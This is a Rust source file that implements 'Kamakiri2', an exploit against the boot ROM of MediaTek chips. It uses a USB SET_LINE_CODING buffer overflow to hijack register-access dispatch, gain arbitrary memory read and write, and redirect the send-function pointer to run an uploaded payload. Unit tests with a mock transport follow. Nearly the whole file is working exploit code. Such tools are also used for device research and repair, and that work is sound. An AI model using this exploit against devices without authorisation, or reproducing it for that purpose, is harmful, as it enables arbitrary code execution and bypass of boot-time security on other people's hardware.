//! Kamakiri2: a CDC SET_LINE_CODING buffer overflow that redirects the boot
//! ROM's register-access dispatch into an arbitrary-address window, then
//! hijacks the send-function pointer to run an uploaded payload.

use std::time::Duration;

use crate::brom::{BromError, BromProtocol, RegisterOp};
use crate::chip::ChipProfile;
use crate::transport::{Transport, TransportError};

const EXPLOIT_ACK: u32 = 0xa1a2_a3a4;
const ACK_TIMEOUT: Duration = Duration::from_secs(5);

// bmRequestType bytes: class/interface OUT and IN, standard/device IN.
const REQ_TYPE_CLASS_IF_OUT: u8 = 0x21;
const REQ_TYPE_CLASS_IF_IN: u8 = 0xa1;
const REQ_TYPE_STANDARD_DEV_IN: u8 = 0x80;

const REQ_SET_LINE_CODING: u8 = 0x20;
const REQ_GET_LINE_CODING: u8 = 0x21;
const REQ_GET_DESCRIPTOR: u8 = 0x06;

#[derive(Debug, thiserror::Error)]
pub enum ExploitError {
    #[error(transparent)]
    Transport(#[from] TransportError),
    #[error(transparent)]
    Brom(#[from] BromError),
    #[error("Exploit ack mismatch: expected {EXPLOIT_ACK:#010x}, got {0:#010x}")]
    AckMismatch(u32),
}

pub struct Kamakiri2<'a, T: Transport> {
    brom: &'a mut BromProtocol<T>,
    profile: &'static ChipProfile,
    /// Line-coding bytes cached on first use. Refetching mid-session can
    /// desynchronize the device state the overflow depends on.
    linecode: Option<[u8; 8]>,
}

impl<'a, T: Transport> Kamakiri2<'a, T> {
    pub fn new(brom: &'a mut BromProtocol<T>, profile: &'static ChipProfile) -> Self {
        Self {
            brom,
            profile,
            linecode: None,
        }
    }

    fn line_coding(&mut self) -> [u8; 8] {
        if let Some(linecode) = self.linecode {
            return linecode;
        }

        let transport = self.brom.transport_mut();
        let index = transport.ctrl_interface();
        let linecode = match transport.ctrl_in(REQ_TYPE_CLASS_IF_IN, REQ_GET_LINE_CODING, 0, index, 7)
        {
            Ok(raw) => {
                let mut linecode = [0u8; 8];
                let len = raw.len().min(7);
                linecode[..len].copy_from_slice(&raw[..len]);
                linecode
            }
            Err(why) => {
                tracing::debug!("GET_LINE_CODING failed, using zero line coding: {why}");
                [0u8; 8]
            }
        };

        self.linecode = Some(linecode);
        linecode
    }

    /// The overflow primitive: SET_LINE_CODING with 8 line-coding bytes
    /// followed by a 4-byte little-endian target address overruns a
    /// fixed-size buffer and overwrites adjacent control state, then a
    /// descriptor read triggers the overflowed path.
    fn overflow(&mut self, address: u32) -> Result<(), TransportError> {
        let linecode = self.line_coding();

        let mut payload = [0u8; 12];
        payload[..8].copy_from_slice(&linecode);
        payload[8..].copy_from_slice(&address.to_le_bytes());

        let transport = self.brom.transport_mut();
        let index = transport.ctrl_interface();
        transport.ctrl_out(REQ_TYPE_CLASS_IF_OUT, REQ_SET_LINE_CODING, 0, index, &payload)?;

        // The trigger request is expected to fail or be ignored.
        let _ = transport.ctrl_in(REQ_TYPE_STANDARD_DEV_IN, REQ_GET_DESCRIPTOR, 0x02ff, 0, 9);

        Ok(())
    }

    /// Arbitrary memory access through the hijacked register window. The
    /// offset arithmetic encodes where the overflow lands relative to the
    /// register-access dispatch table and differs for addresses below the
    /// window base (0x40).
    fn da_access(
        &mut self,
        address: u32,
        op: RegisterOp<'_>,
        check_result: bool,
    ) -> Result<Vec<u8>, ExploitError> {
        // Touch the register window and the watchdog status register before
        // steering the dispatch pointer.
        self.brom.register_read(0, 1, true)?;
        self.brom.read32(self.profile.watchdog + 0x50, 1)?;

        let ptr = self.profile.brom_register_access.1;

        for i in 0..3 {
            self.overflow(ptr + 8 - 3 + i)?;
        }

        if address < 0x40 {
            for i in 0..4 {
                self.overflow(ptr - 6 + (4 - i))?;
            }
            Ok(self.brom.register_access(address, op, check_result)?)
        } else {
            for i in 0..3 {
                self.overflow(ptr - 5 + (3 - i))?;
            }
            Ok(self.brom.register_access(address - 0x40, op, check_result)?)
        }
    }

    pub fn da_read(&mut self, address: u32, length: usize) -> Result<Vec<u8>, ExploitError> {
        self.da_access(address, RegisterOp::Read(length), true)
    }

    pub fn da_read32(&mut self, address: u32) -> Result<u32, ExploitError> {
        let data = self.da_read(address, 4)?;
        Ok(u32::from_le_bytes([data[0], data[1], data[2], data[3]]))
    }

    pub fn da_write(
        &mut self,
        address: u32,
        data: &[u8],
        check_result: bool,
    ) -> Result<(), ExploitError> {
        self.da_access(address, RegisterOp::Write(data), check_result)?;
        Ok(())
    }

    /// Stages `payload` at `payload_addr` (the profile's staging address when
    /// not given) and redirects the BROM's send-function pointer at it. The
    /// next protocol dispatch runs the payload.
    pub fn exploit(
        &mut self,
        payload: &[u8],
        payload_addr: Option<u32>,
    ) -> Result<(), ExploitError> {
        let ptr_send = self.da_read32(self.profile.send_ptr.1)? + 8;
        let payload_addr = payload_addr.unwrap_or(self.profile.brom_payload_addr);

        tracing::debug!("Hijacking send pointer at {ptr_send:#010x} -> {payload_addr:#010x}");

        self.da_write(payload_addr, payload, true)?;
        // No status arrives once the pointer is overwritten.
        self.da_write(ptr_send, &payload_addr.to_le_bytes(), false)?;

        Ok(())
    }

    /// The injected payload announces itself with a fixed ack word once it
    /// begins executing.
    pub fn verify_exploit(&mut self) -> Result<(), ExploitError> {
        let data = self.brom.transport_mut().read(4, ACK_TIMEOUT)?;
        let ack = u32::from_le_bytes([data[0], data[1], data[2], data[3]]);

        if ack != EXPLOIT_ACK {
            return Err(ExploitError::AckMismatch(ack));
        }

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chip;
    use crate::transport::testing::MockTransport;

    const REG_PTR: u32 = 0xe388;

    fn queue_be32(mock: &mut MockTransport, value: u32) {
        mock.queue(&value.to_be_bytes());
    }

    // Responses for the register-window probe and watchdog read that prefix
    // every da_access call.
    fn queue_probe(mock: &mut MockTransport) {
        mock.queue(&[0xda]);
        queue_be32(mock, 0);
        queue_be32(mock, 0);
        queue_be32(mock, 1);
        mock.queue(&[0x00, 0x00]);
        mock.queue(&[0xaa]);
        mock.queue(&[0x00, 0x00]);

        mock.queue(&[0xd1]);
        queue_be32(mock, chip::MT6771.watchdog + 0x50);
        queue_be32(mock, 1);
        mock.queue(&[0x00, 0x00]);
        queue_be32(mock, 0x1234_5678);
        mock.queue(&[0x00, 0x00]);
    }

    fn queue_register_read(mock: &mut MockTransport, address: u32, data: &[u8]) {
        mock.queue(&[0xda]);
        queue_be32(mock, 0);
        queue_be32(mock, address);
        queue_be32(mock, data.len() as u32);
        mock.queue(&[0x00, 0x00]);
        mock.queue(data);
        mock.queue(&[0x00, 0x00]);
    }

    fn queue_register_write(mock: &mut MockTransport, address: u32, length: u32, check: bool) {
        mock.queue(&[0xda]);
        queue_be32(mock, 1);
        queue_be32(mock, address);
        queue_be32(mock, length);
        mock.queue(&[0x00, 0x00]);
        if check {
            mock.queue(&[0x00, 0x00]);
        }
    }

    fn overflow_addresses(mock: &MockTransport) -> Vec<u32> {
        mock.ctrl_out_log
            .iter()
            .map(|(request_type, request, _, _, data)| {
                assert_eq!(*request_type, 0x21);
                assert_eq!(*request, 0x20);
                assert_eq!(data.len(), 12);
                u32::from_le_bytes([data[8], data[9], data[10], data[11]])
            })
            .collect()
    }

    #[test]
    fn low_address_uses_four_call_branch() {
        let mut mock = MockTransport::new(64);
        queue_probe(&mut mock);
        queue_register_read(&mut mock, 0x10, &[0x11, 0x22, 0x33, 0x44]);

        let mut brom = BromProtocol::new(&mut mock);
        let mut kamakiri = Kamakiri2::new(&mut brom, &chip::MT6771);
        let data = kamakiri.da_read(0x10, 4).unwrap();
        assert_eq!(data, [0x11, 0x22, 0x33, 0x44]);

        assert_eq!(
            overflow_addresses(&mock),
            [
                REG_PTR + 5,
                REG_PTR + 6,
                REG_PTR + 7,
                REG_PTR - 2,
                REG_PTR - 3,
                REG_PTR - 4,
                REG_PTR - 5,
            ]
        );
    }

    #[test]
    fn high_address_uses_three_call_branch_with_bias() {
        let mut mock = MockTransport::new(64);
        queue_probe(&mut mock);
        // Register access happens at the biased address.
        queue_register_read(&mut mock, 0x1000 - 0x40, &[0x00; 4]);

        let mut brom = BromProtocol::new(&mut mock);
        let mut kamakiri = Kamakiri2::new(&mut brom, &chip::MT6771);
        kamakiri.da_read(0x1000, 4).unwrap();

        assert_eq!(
            overflow_addresses(&mock),
            [
                REG_PTR + 5,
                REG_PTR + 6,
                REG_PTR + 7,
                REG_PTR - 2,
                REG_PTR - 3,
                REG_PTR - 4,
            ]
        );

        // The biased address went out on the wire, big-endian.
        let written = mock.written();
        let needle = (0x1000u32 - 0x40).to_be_bytes();
        assert!(written.windows(4).any(|window| window == needle));
    }

    #[test]
    fn line_coding_fetched_once_and_cached() {
        let mut mock = MockTransport::new(64);
        mock.ctrl_in_data
            .push_back(vec![0x00, 0xc2, 0x01, 0x00, 0x00, 0x00, 0x08]);
        queue_probe(&mut mock);
        queue_register_read(&mut mock, 0x10, &[0x00; 4]);

        let mut brom = BromProtocol::new(&mut mock);
        let mut kamakiri = Kamakiri2::new(&mut brom, &chip::MT6771);
        kamakiri.da_read(0x10, 4).unwrap();

        assert_eq!(kamakiri.linecode, Some([0x00, 0xc2, 0x01, 0x00, 0x00, 0x00, 0x08, 0x00]));
        for (_, _, _, _, data) in &mock.ctrl_out_log {
            assert_eq!(&data[..8], &[0x00, 0xc2, 0x01, 0x00, 0x00, 0x00, 0x08, 0x00]);
        }
    }

    #[test]
    fn exploit_stages_payload_at_override_address() {
        let payload = [0x5a; 0x20];
        let override_addr = 0x0010_2000;
        let send_slot_value = 0x0010_2830u32;

        let mut mock = MockTransport::new(64);
        // Send-pointer slot read, payload write, pointer write. The echo
        // framing fails the run if any access targets the wrong address.
        queue_probe(&mut mock);
        queue_register_read(
            &mut mock,
            chip::MT6771.send_ptr.1 - 0x40,
            &send_slot_value.to_le_bytes(),
        );
        queue_probe(&mut mock);
        queue_register_write(&mut mock, override_addr - 0x40, payload.len() as u32, true);
        queue_probe(&mut mock);
        queue_register_write(&mut mock, send_slot_value + 8 - 0x40, 4, false);

        let mut brom = BromProtocol::new(&mut mock);
        let mut kamakiri = Kamakiri2::new(&mut brom, &chip::MT6771);
        kamakiri.exploit(&payload, Some(override_addr)).unwrap();

        // The hijacked pointer is aimed at the override address.
        let written = mock.written();
        let needle = override_addr.to_le_bytes();
        assert!(written.windows(needle.len()).any(|window| window == needle));
    }

    #[test]
    fn verify_exploit_rejects_wrong_ack() {
        let mut mock = MockTransport::new(64);
        mock.queue(&[0xde, 0xad, 0xbe, 0xef]);

        let mut brom = BromProtocol::new(&mut mock);
        let mut kamakiri = Kamakiri2::new(&mut brom, &chip::MT6771);
        match kamakiri.verify_exploit() {
            Err(ExploitError::AckMismatch(0xefbe_adde)) => {}
            other => panic!("expected ack mismatch, got {other:?}"),
        }
    }
}
